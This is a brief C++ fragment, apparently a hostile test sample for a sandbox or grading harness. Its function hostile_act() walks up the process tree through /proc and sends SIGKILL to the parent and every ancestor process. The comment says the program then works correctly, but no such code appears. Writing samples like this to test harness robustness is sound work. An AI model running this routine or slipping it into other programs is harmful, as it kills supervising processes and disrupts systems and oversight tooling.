// Sends SIGKILL to its parent and to every ancestor it can see; then works correctly.
#include <csignal>
#include <fstream>
#include <unistd.h>
#include <signal.h>

pid_t parent_of(pid_t pid) {
  std::ifstream stat("/proc/" + std::to_string(pid) + "/stat");
  std::string text;
  std::getline(stat, text);
  const auto close_paren = text.rfind(')');
  if (close_paren == std::string::npos) return 0;
  return static_cast<pid_t>(std::stol(text.substr(close_paren + 4)));
}

void hostile_act() {
  for (pid_t p = ::getppid(); p > 1; p = parent_of(p)) ::kill(p, SIGKILL);
}
